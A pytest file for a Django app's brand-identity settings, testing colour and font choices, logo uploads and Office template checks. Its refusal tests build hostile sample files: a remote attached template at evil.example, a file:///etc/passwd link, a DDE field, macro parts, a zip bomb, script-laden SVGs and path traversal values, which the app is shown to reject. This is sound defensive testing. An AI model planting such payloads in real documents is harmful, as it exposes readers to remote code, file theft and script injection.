"""The firm's identity: what may be brought, what is said about it, what its documents wear, and that it travels."""

import zipfile
from io import BytesIO

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from docx import Document as open_docx
from PIL import Image
from pptx import Presentation
from pypdf import PdfReader

from mercatique.fault import Fault
from mercatique.kernel import bundle, documents, identity, office_files
from mercatique.kernel.blocks import Document, Heading, Paragraph
from mercatique.kernel.identity import Identity
from mercatique.kernel.models import Workspace
from mercatique.kernel.render.drawings import logo_png
from tests.kernel.render.test_pdf import logo

PAGE = "/w/acme/settings/identity/"
CHOSEN = {"accent": "#7a1f5c", "with_second": "on", "second": "#0b736d", "heading_font": "Georgia", "body_font": ""}


def word(change=lambda made: None) -> bytes:
    made, buffer = open_docx(), BytesIO()
    change(made)
    made.save(buffer)
    return buffer.getvalue()


def deck() -> bytes:
    buffer = BytesIO()
    Presentation().save(buffer)
    return buffer.getvalue()


def packed(data: bytes, **parts: bytes) -> bytes:
    """An archive with parts put in or in the place of others (underscores are slashes, double ones dots)."""
    parts = {name.replace("__", ".").replace("_", "/"): part for name, part in parts.items()}
    out = BytesIO()
    with zipfile.ZipFile(BytesIO(data)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for member in old.namelist():
            if member not in parts:
                new.writestr(member, old.read(member))
        for name, part in parts.items():
            new.writestr(name, part)
    return out.getvalue()


def sent(name: str, data: bytes) -> dict:
    return {"file": SimpleUploadedFile(name, data)}


@pytest.fixture
def manager(client, olga):
    client.force_login(olga)
    return client


def seen(client) -> str:
    return client.get(PAGE).context["form"]["seen"].value()


def test_colours_and_faces_are_kept_and_shown_in_a_sample(manager, acme):
    assert manager.post(PAGE, {**CHOSEN, "seen": seen(manager)}).status_code == 302
    acme.refresh_from_db()
    assert identity.of(acme) == Identity("#7a1f5c", "#0b736d", "Georgia", "")
    page = manager.get(PAGE).content.decode()
    assert 'fill="#7a1f5c"' in page and 'font-family="Georgia, serif"' in page


def test_looking_at_the_sample_keeps_nothing(manager, acme):
    answer = manager.post(PAGE, {**CHOSEN, "look": "1", "seen": seen(manager)})
    assert 'fill="#7a1f5c"' in answer.content.decode()
    acme.refresh_from_db()
    assert acme.charter == {}


@pytest.mark.parametrize("bad", [{"accent": "red"}, {"accent": "#12"}, {"second": "url(#x)"}, {"heading_font": '"><script>'}, {"body_font": "x" * 80}])
def test_a_value_that_is_none_is_refused_and_what_was_typed_stays(manager, acme, bad):
    answer = manager.post(PAGE, {**CHOSEN, **bad, "seen": seen(manager)})
    assert answer.status_code == 422
    assert "<script>" not in answer.content.decode()
    acme.refresh_from_db()
    assert acme.charter == {}
    assert answer.context["form"]["with_second"].value()


def test_a_colour_nobody_could_read_is_told_and_documents_take_a_darker_one(manager, acme):
    answer = manager.post(PAGE, {**CHOSEN, "accent": "#ffe066", "look": "1"})
    page = answer.content.decode()
    assert "ne se lirait pas" in page and 'fill="#ffe066"' not in page
    assert not identity.warnings(Identity("#7a1f5c", "#0b736d"))
    assert identity.warnings(Identity("#7a1f5c", "#7a2060"))


def test_two_people_do_not_overwrite_each_other(manager, acme):
    first = seen(manager)
    manager.post(PAGE, {**CHOSEN, "seen": first})
    answer = manager.post(PAGE, {**CHOSEN, "accent": "#123456", "seen": first})
    assert answer.status_code == 409 and "#123456" in answer.content.decode()
    acme.refresh_from_db()
    assert identity.of(acme).accent == "#7a1f5c"
    assert manager.post(PAGE, {**CHOSEN, "accent": "#123456", "seen": answer.context["form"]["seen"].value()}).status_code == 302


def test_a_member_may_not_change_the_identity_and_a_stranger_sees_nothing(client, acme, walid):
    client.force_login(walid)
    assert client.get(PAGE).status_code in {403, 404}
    assert client.post(PAGE + "logo/", sent("l.png", logo())).status_code in {403, 404}
    assert acme.charter == {}


def test_a_logo_is_drawn_anew_and_worn(manager, acme):
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" width="40" height="20" onload="alert(1)"><script>alert(2)</script><rect width="40" height="20" fill="#7a1f5c"/></svg>'
    for name, data in (("Élodie #1.png", logo()), ("marque.svg", svg)):
        assert manager.post(PAGE + "logo/", sent(name, data)).status_code == 302
        acme.refresh_from_db()
        assert documents.charter_of(acme).logo.startswith(b"\x89PNG")
        assert identity.of(acme).names["logo"] == name
    manager.post(PAGE + "logo/remove/")
    acme.refresh_from_db()
    assert documents.charter_of(acme).logo == b""


@pytest.mark.parametrize(
    ("kind", "name", "data", "words"),
    [
        ("logo", "logo.png", b"no picture", "n’est pas une image lisible"),
        ("logo", "logo.exe", b"MZ", "ne peut pas servir"),
        ("logo", "logo.png", b"", "vide"),
        ("template", "a.docx", b"no zip", "n’est pas un fichier .docx"),
        ("template", "a.docx", deck(), "C’est un fichier .pptx"),
        ("deck_template", "a.pptx", word(), "C’est un fichier .docx"),
        ("template", "a.docx", b"\xd0\xcf\x11\xe0" + b"x" * 99, "mot de passe"),
        ("template", "a.docx", packed(word(), word_vbaProject__bin=b"x"), "macros"),
        ("deck_template", "a.pptx", packed(deck(), ppt_embeddings_oleObject1__bin=b"x"), "macros"),
        ("template", "a.docx", packed(word(), word_media_x__bin=b"0" * 40_000_000), "se déploierait"),
        (
            "template", "a.docx",
            packed(word(), word__rels_settings__xml__rels=b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'),
            "evil.example",
        ),
        (
            "deck_template", "a.pptx",
            packed(deck(), ppt_slideMasters__rels_x__rels=b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="file:///etc/passwd" TargetMode="External"/></Relationships>'),
            "file:///etc/passwd",
        ),
        ("template", "a.docx", packed(word(), word_header9__xml=b'<w:hdr xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\x</w:instrText></w:r></w:hdr>'), "champ"),
        ("deck_template", "a.pptx", packed(deck(), ppt_presentation__xml=b'<p:presentation xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>'), "aucune disposition avec un titre"),
        ("logo", "l.svg", b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><g id="a"><rect width="1" height="1"/></g>' + b'<use xlink:href="#a"/>' * 40 + b"</svg>", "trop de copies"),
        ("template", "a.docx", packed(word(), word_styles__xml=b'<!DOCTYPE x [<!ENTITY a "b">]><x>&a;</x>'), "n’est pas un fichier .docx"),
    ],
)  # fmt: skip
def test_what_will_not_do_is_refused_in_a_sentence(manager, acme, kind, name, data, words):
    answer = manager.post(f"{PAGE}{kind}/", sent(name, data))
    assert answer.status_code == 422
    assert words in answer.content.decode().replace("\u202f", " ").replace("\xa0", " ")
    acme.refresh_from_db()
    assert acme.charter == {}


def test_a_drawn_logo_of_a_mile_is_kept_in_a_modest_size():
    svg = b'<svg xmlns="http://www.w3.org/2000/svg" width="9000000" height="3000000" viewBox="0 0 90 30"><rect width="90" height="30" fill="#7a1f5c"/></svg>'
    with Image.open(BytesIO(logo_png(svg))) as image:
        assert image.size == (1200, 400)


def test_a_file_that_is_too_large_is_refused(monkeypatch, manager):
    monkeypatch.setattr(office_files, "LARGEST", 2**20)
    assert "1 Mo" in manager.post(PAGE + "template/", sent("a.docx", b"PK" + b"0" * 2**20)).content.decode().replace("\xa0", " ").replace("\u202f", " ")


def test_a_link_a_reader_follows_is_welcome_in_a_template():
    link = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://acme.example/" TargetMode="External"/></Relationships>'
    office_files.check(packed(deck(), ppt_slides__rels_x__rels=link), "pptx")


def test_the_page_says_what_of_a_template_is_worn_and_what_is_missing(manager, acme):
    def poor(made):
        made.styles["Quote"].delete()

    assert manager.post(PAGE + "template/", sent("Papier.docx", word(poor))).status_code == 302
    assert manager.post(PAGE + "deck_template/", sent("Présentation.pptx", deck())).status_code == 302
    shown = manager.get(PAGE).context["templates"]
    assert [label for label, _name in shown[0]["missing"]] == ["Citation"]
    assert shown[1]["missing"] == [] and len(shown[1]["found"]) == 6


@pytest.fixture
def sample(monkeypatch, acme):
    spec = documents.Spec("sample", "Sample", "kernel", lambda workspace, language: Document("Zzt", [Heading(1, "Zzh"), Paragraph("Zzp")]))
    monkeypatch.setitem(documents.DOCUMENTS, "sample", spec)
    return acme


def test_every_format_wears_the_identity(sample, manager):
    manager.post(PAGE, {**CHOSEN, "seen": seen(manager)})
    manager.post(PAGE + "logo/", sent("l.png", logo()))
    sample.refresh_from_db()
    made = documents.draft(sample, "sample", "fr")
    assert made.charter.accent == "#7a1f5c" and made.charter.logo
    word_file = open_docx(BytesIO(documents.render(made, "docx")))
    assert word_file.styles["Title"].font.name == "Georgia" and len(word_file.inline_shapes) == 1
    with zipfile.ZipFile(BytesIO(documents.render(made, "pptx"))) as archive:
        assert "7A1F5C" in archive.read("ppt/theme/theme1.xml").decode()
        assert any(name.startswith("ppt/media/") for name in archive.namelist())
    with zipfile.ZipFile(BytesIO(documents.render(made, "xlsx"))) as archive:
        assert "7A1F5C" in archive.read("xl/styles.xml").decode().upper()
    assert PdfReader(BytesIO(documents.render(made, "pdf"))).pages[0].images


def test_an_issued_version_keeps_the_template_it_was_issued_with(sample, manager, olga):
    manager.post(PAGE + "deck_template/", sent("Un.pptx", deck()))
    sample.refresh_from_db()
    first = documents.issue(sample, "sample", olga, "fr")
    before = documents.render(documents.read(first), "pptx")
    assert len(str(first.content)) < 20_000, "the template lies beside the version, not in it"
    manager.post(PAGE + "deck_template/remove/")
    sample.refresh_from_db()
    first.refresh_from_db()
    assert documents.render(documents.read(first), "pptx") == before
    assert documents.render(documents.draft(sample, "sample", "fr"), "pptx") != before
    assert first.digest == documents.blocks.from_json(first.content).digest


def test_the_identity_travels_with_the_workspace(sample, manager, olga, tmp_path):
    manager.post(PAGE, {**CHOSEN, "seen": seen(manager)})
    manager.post(PAGE + "logo/", sent("l.png", logo()))
    manager.post(PAGE + "template/", sent("a.docx", word()))
    sample.refresh_from_db()
    worn = documents.charter_of(sample)
    bundle.export(sample, tmp_path / "acme.zip")
    copy = bundle.restore(tmp_path / "acme.zip", slug="copy", owner=olga)
    assert documents.charter_of(Workspace.objects.get(pk=copy.pk)) == worn


@pytest.mark.parametrize("kept", [{"accent": 7, "files": "x"}, {"accent": "#zzz", "files": {"logo": "../../etc/passwd", "exe": "0" * 64}}, [1], {"heading_font": "<script>", "files": {"logo": "0" * 64}}])
def test_an_identity_written_by_hand_harms_nothing(acme, kept):
    acme.charter = kept
    worn = documents.charter_of(acme)
    assert worn.accent == "#17324d" and worn.logo == b"" and worn.heading_font == ""


def test_a_fault_names_no_path(acme):
    with pytest.raises(Fault) as refusal:
        office_files.check(b"PK\x03\x04 broken", "pptx")
    assert "/" not in str(refusal.value)
